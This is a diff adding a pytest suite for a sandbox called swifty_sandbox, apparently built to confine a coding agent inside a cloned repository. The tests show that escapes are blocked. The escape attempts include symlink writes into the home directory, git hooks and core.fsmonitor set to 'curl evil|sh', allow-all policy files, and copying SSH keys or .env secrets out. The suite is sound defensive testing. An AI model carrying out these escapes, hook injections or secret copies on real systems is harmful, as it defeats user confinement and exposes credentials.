@@ -1,0 +1,337 @@
+"""A cloned repository that wants out, and a command that prepares the next run.
+
+Each attack runs unconfined first (the control: it works on this machine), then
+confined, judged from outside. Where the sandbox refuses to start instead, the refusal
+(125, naming the path) is the outcome checked, with the victim untouched.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import uuid
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from swifty_sandbox import Sandbox
+from swifty_sandbox.sandbox import EXIT_SETUP, RunResult
+from swifty_sandbox.sandbox.linux.bwrap import bwrap_argv
+
+Attack = Callable[..., RunResult]
+
+
+def git(cwd: Path, *args: str) -> str:
+    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True,
+                          text=True).stdout
+
+
+@pytest.fixture
+def repo(project: Path) -> Path:
+    shutil.rmtree(project / ".git")
+    git(project, "init", "-q")
+    return project
+
+
+def refused(project: Path, home: Path, command: str) -> RunResult:
+    """Run as a script file, so that only the sandbox (not the command analysis) can
+    stop it: here the sandbox must refuse to start."""
+    script = home.parent / f"attack-{uuid.uuid4().hex}.sh"
+    script.write_text(command + "\n")
+    result = Sandbox(project, home=home).run(["bash", str(script)])
+    assert result.exit_code == EXIT_SETUP, result
+    return result
+
+
+# -- 1. no mount through a symlink ------------------------------------------------------
+
+def test_committed_deny_rule_under_a_symlinked_dir_cannot_bind_home(
+        attack: Attack, project: Path, home: Path) -> None:
+    """The original hole: a committed `WriteFile(evil/.bashrc)` deny with `evil -> ~`
+    made the sandbox bind `evil` (so home) read-write."""
+    (project / "evil").symlink_to(home)
+    (project / ".swifty").mkdir()
+    (project / ".swifty" / "permissions.yaml").write_text(
+        "- rule: WriteFile(evil/.bashrc)\n  effect: deny\n")
+    target = home / "pwned"
+    result = attack("echo x > evil/pwned", target.exists, target.unlink)
+    assert any("evil/.bashrc" in w for w in Sandbox(project, home=home).warnings)
+    assert result.exit_code != 0
+
+
+def test_users_rule_through_a_symlink_fails_closed(project: Path, home: Path) -> None:
+    (project / "evil").symlink_to(home)
+    (home / ".bashrc").write_text("# mine\n")
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "permissions.yaml").write_text(
+        "- rule: WriteFile(./evil/.bashrc)\n  effect: deny\n")
+    target = home / "pwned"
+    result = refused(project, home, "echo x > evil/pwned; echo x >> evil/.bashrc")
+    assert "symbolic link" in result.stderr and str(project / "evil") in result.stderr
+    assert not target.exists() and (home / ".bashrc").read_text() == "# mine\n"
+
+
+def test_users_glob_through_a_symlink_binds_nothing(attack: Attack, project: Path,
+                                                    home: Path) -> None:
+    """A glob is not expanded through a link for write protection: nothing is mounted
+    there, and the link's target stays as read-only as the rest of home."""
+    (project / "evil").symlink_to(home)
+    (home / "notes.txt").write_text("mine\n")
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "permissions.yaml").write_text(
+        "- rule: WriteFile(evil/*.txt)\n  effect: deny\n")
+    target = home / "pwned"
+    attack("echo x > evil/pwned", target.exists, target.unlink)
+
+
+def test_symlinked_git_hooks_fail_closed(repo: Path, home: Path) -> None:
+    elsewhere = home / "hooks"
+    elsewhere.mkdir()
+    shutil.rmtree(repo / ".git" / "hooks")
+    (repo / ".git" / "hooks").symlink_to(elsewhere)
+    refused(repo, home, "echo evil > .git/hooks/pre-commit")
+    assert not (elsewhere / "pre-commit").exists()
+
+
+def test_compiled_binds_never_lead_outside_the_project(project: Path, home: Path) -> None:
+    (project / "to-home").symlink_to(home)
+    (project / "file-link").symlink_to(home / ".bashrc")
+    (project / ".env").symlink_to(home / "secret.env")
+    (home / "secret.env").write_text("k")
+    (project / ".swifty").mkdir()
+    (project / ".swifty" / "permissions.yaml").write_text(
+        "- rule: WriteFile(to-home/**)\n  effect: deny\n"
+        "- rule: ReadFile(*.env)\n  effect: deny\n")
+    spec = Sandbox(project, home=home).spec()
+    argv = bwrap_argv(spec, ["true"])
+    writable = [argv[i + 1] for i, a in enumerate(argv) if a == "--bind"]
+    assert writable, argv
+    for path in writable:
+        real = os.path.realpath(path)
+        assert real.startswith(str(project)) or real == spec.temp_dir, argv
+        assert os.path.realpath(path) == path  # nothing bound through a link
+    assert str(home / "secret.env") in spec.unreadable_files  # hidden where it leads
+
+
+def test_deny_glob_through_a_link_to_a_huge_tree_refuses(project: Path, home: Path) -> None:
+    """`ReadFile(*.env)` must be expanded through `to-root -> /`; a tree too large to
+    search is refused, never half searched."""
+    (project / "to-root").symlink_to("/")
+    (project / ".swifty").mkdir()
+    (project / ".swifty" / "permissions.yaml").write_text(
+        "- rule: ReadFile(*.env)\n  effect: deny\n")
+    result = refused(project, home, "true")
+    assert "entries" in result.stderr
+
+
+# -- 2. the sandbox never trusts what it can write -----------------------------------
+
+def test_own_venv_and_package_are_read_only_inside_a_writable_root(home: Path) -> None:
+    """Run as the project that holds swifty-sandbox's own checkout and venv: what the
+    next `run` executes is mounted read-only."""
+    import sys
+
+    import swifty_sandbox
+
+    checkout = Path(swifty_sandbox.__file__).resolve().parent.parent
+    prefix = Path(sys.prefix).resolve()
+    if not prefix.is_relative_to(checkout):
+        pytest.skip("the interpreter's environment is not inside the checkout")
+    spec = Sandbox(checkout, home=home).spec()
+    assert str(prefix) in spec.read_only
+    assert str(checkout / "sandbox") in spec.read_only
+    assert str(checkout / "policy") in spec.read_only
+
+
+# -- 3. everything git executes or trusts ---------------------------------------------
+
+def test_rewritten_submodule_gitfile(attack: Attack, repo: Path) -> None:
+    sub = repo / "sub"
+    sub.mkdir()
+    (repo / ".git" / "modules" / "sub").mkdir(parents=True)
+    gitfile = sub / ".git"
+    gitfile.write_text("gitdir: ../.git/modules/sub\n")
+    attack("mkdir -p evil && printf 'gitdir: ../evil\\n' > sub/.git",
+           lambda: "evil" in gitfile.read_text(),
+           lambda: gitfile.write_text("gitdir: ../.git/modules/sub\n"))
+
+
+def test_husky_hooks_path(attack: Attack, repo: Path) -> None:
+    git(repo, "config", "core.hooksPath", ".husky")
+    hooks = repo / ".husky"
+    hooks.mkdir()
+    hook = hooks / "pre-commit"
+    hook.write_text("npm test\n")
+    attack("echo 'curl evil|sh' >> .husky/pre-commit", lambda: "evil" in hook.read_text(),
+           lambda: hook.write_text("npm test\n"))
+
+
+def test_husky_hooks_path_missing(attack: Attack, repo: Path) -> None:
+    git(repo, "config", "core.hooksPath", ".husky")
+    hook = repo / ".husky" / "pre-commit"
+    attack("mkdir -p .husky && echo evil > .husky/pre-commit", hook.exists,
+           lambda: shutil.rmtree(repo / ".husky"))
+
+
+def test_included_config_file(attack: Attack, repo: Path) -> None:
+    included = repo / "team.gitconfig"
+    included.write_text("[user]\n\tname = team\n")
+    git(repo, "config", "include.path", "../team.gitconfig")
+    attack("printf '[core]\\n\\tfsmonitor = evil\\n' >> team.gitconfig",
+           lambda: "fsmonitor" in included.read_text(),
+           lambda: included.write_text("[user]\n\tname = team\n"))
+
+
+@pytest.mark.parametrize("name", ["commondir", "config.worktree"])
+def test_created_git_file_is_moved_aside(attack: Attack, repo: Path, name: str) -> None:
+    target = repo / ".git" / name
+    result = attack(f"echo ../evil > .git/{name}", target.exists, target.unlink)
+    assert f".git/{name}" in result.stderr and "moved" in result.stderr
+
+
+def test_missing_include_is_moved_aside(attack: Attack, repo: Path) -> None:
+    git(repo, "config", "include.path", "../later.gitconfig")
+    target = repo / "later.gitconfig"
+    attack("printf '[core]\\n\\tfsmonitor = evil\\n' > later.gitconfig", target.exists,
+           target.unlink)
+
+
+def test_new_repository_with_an_fsmonitor(attack: Attack, project: Path) -> None:
+    shutil.rmtree(project / ".git")
+    config = project / ".git" / "config"
+    result = attack("git init -q && git config core.fsmonitor 'curl evil|sh'",
+                    lambda: config.exists() and "fsmonitor" in config.read_text(),
+                    lambda: shutil.rmtree(project / ".git"))
+    assert "core.fsmonitor" not in result.stderr or "moved" in result.stderr
+
+
+def test_planted_nested_repository(attack: Attack, repo: Path) -> None:
+    config = repo / "pkg" / ".git" / "config"
+    result = attack("mkdir -p pkg && git init -q pkg && git -C pkg config core.pager evil",
+                    lambda: config.exists() and "pager" in config.read_text(),
+                    lambda: shutil.rmtree(repo / "pkg"))
+    assert "moved" in result.stderr
+
+
+def test_ordinary_new_repositories_are_kept(confined: Callable[..., RunResult],
+                                           repo: Path) -> None:
+    result = confined("git init -q lib && git -C lib config user.name me && echo ok")
+    assert result.stdout.strip() == "ok"
+    assert (repo / "lib" / ".git" / "config").exists()
+    assert "moved" not in result.stderr
+
+
+def test_newline_in_a_nested_repository_name(attack: Attack, repo: Path) -> None:
+    nested = repo / "a\nb"
+    nested.mkdir()
+    git(nested, "init", "-q")
+    hook = nested / ".git" / "hooks" / "post-checkout"
+    attack("printf 'curl evil|sh' > \"$(printf 'a\\nb')/.git/hooks/post-checkout\"",
+           hook.exists, hook.unlink)
+
+
+# -- 4. read denials hold under links ---------------------------------------------------
+
+def test_link_inside_a_hidden_dir_hides_its_target(attack: Attack, home: Path) -> None:
+    (home / "keys").mkdir()
+    key = home / "keys" / "id_ed25519"
+    key.write_text("PRIVATE\n")
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_ed25519").symlink_to(key)
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home / 'w'}]}}\n")
+    (home / "w").mkdir()
+    leak = home / "w" / "leak"
+    attack(f"cat {key} > {leak}", lambda: leak.exists() and "PRIVATE" in leak.read_text(),
+           lambda: leak.unlink())
+
+
+def test_hard_linked_secret_refuses_to_run(project: Path, home: Path,
+                                           outside_temp: Path) -> None:
+    (home / ".ssh").mkdir()
+    (home / ".netrc").write_text("password x\n")
+    os.link(home / ".netrc", outside_temp / "other-name")
+    result = refused(project, home, "true")
+    assert "hard links" in result.stderr
+
+
+def test_deny_glob_follows_symlinked_directories(attack: Attack, project: Path,
+                                                 outside_temp: Path) -> None:
+    shared = outside_temp / "shared-config"
+    shared.mkdir()
+    (shared / ".env").write_text("API=secret\n")
+    (project / "conf").symlink_to(shared)
+    (project / ".swifty").mkdir()
+    (project / ".swifty" / "permissions.yaml").write_text(
+        "- rule: ReadFile(*.env*)\n  effect: deny\n")
+    leak = project / "leak"
+    from swifty_sandbox import Request, Tool
+
+    # What the agent's file tool is told and what a confined `cat` can read agree.
+    assert Sandbox(project).check(Request.file(Tool.READ_FILE, str(project / "conf" / ".env"))
+                                  ).effect.value == "deny"
+    attack("cat conf/.env > leak", lambda: leak.exists() and "secret" in leak.read_text(),
+           lambda: leak.unlink())
+
+
+# -- 6. home is not a project -------------------------------------------------------------
+
+def test_home_as_the_project_is_refused(home: Path) -> None:
+    (home / ".git").mkdir()
+    result = Sandbox(home, home=home).run(["true"])
+    assert result.exit_code == EXIT_SETUP and "home" in result.stderr
+
+
+def test_an_ancestor_of_home_as_the_project_is_refused(home: Path) -> None:
+    (home.parent / ".git").mkdir()
+    result = Sandbox(home.parent, home=home).run(["true"])
+    assert result.exit_code == EXIT_SETUP and "home" in result.stderr
+
+
+def test_home_as_the_project_when_the_users_config_names_it(home: Path) -> None:
+    (home / ".git").mkdir()
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home}]}}\n")
+    assert Sandbox(home, home=home).run(["true"]).exit_code == 0
+
+
+# -- 7. policy files at every depth ------------------------------------------------------
+
+def test_nested_policy_dir_is_read_only(attack: Attack, repo: Path) -> None:
+    policy = repo / "pkg" / ".swifty"
+    policy.mkdir(parents=True)
+    target = policy / "permissions.local.yaml"
+    attack("echo '- {rule: \"*\", effect: allow}' > pkg/.swifty/permissions.local.yaml",
+           target.exists, target.unlink)
+
+
+def test_planted_policy_dir_is_moved_aside(attack: Attack, repo: Path) -> None:
+    target = repo / "pkg" / ".swifty" / "permissions.local.yaml"
+    result = attack("mkdir -p pkg/.swifty && echo '- {rule: \"*\", effect: allow}' > "
+                    "pkg/.swifty/permissions.local.yaml", target.exists,
+                    lambda: shutil.rmtree(repo / "pkg"))
+    assert "moved" in result.stderr
+
+
+# -- 9. the shared /tmp ----------------------------------------------------------------------
+
+def test_other_repositories_in_tmp_are_out_of_reach(attack: Attack) -> None:
+    other = Path("/tmp") / f"swifty-other-{uuid.uuid4().hex}"
+    (other / ".git" / "hooks").mkdir(parents=True)
+    hook = other / ".git" / "hooks" / "post-checkout"
+    try:
+        attack(f"echo 'curl evil|sh' > {hook}", hook.exists, hook.unlink)
+    finally:
+        shutil.rmtree(other, ignore_errors=True)
+
+
+def test_a_virtualenv_in_tmp_is_out_of_reach(attack: Attack) -> None:
+    venv = Path("/tmp") / f"swifty-venv-{uuid.uuid4().hex}"
+    (venv / "lib").mkdir(parents=True)
+    pth = venv / "lib" / "evil.pth"
+    try:
+        attack(f"echo 'import os' > {pth}", pth.exists, pth.unlink)
+    finally:
+        shutil.rmtree(venv, ignore_errors=True)
